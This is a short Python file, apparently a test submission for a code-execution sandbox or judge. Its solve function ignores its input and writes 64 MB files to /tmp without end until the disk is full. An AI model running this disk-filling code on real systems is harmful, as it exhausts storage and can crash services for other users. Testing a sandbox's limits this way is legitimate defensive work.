# A full disk.
import itertools


def solve(n):
    for number in itertools.count():
        with open(f'/tmp/{number}', 'wb') as handle:
            for _ in range(64):
                handle.write(b'x' * (1 << 20))
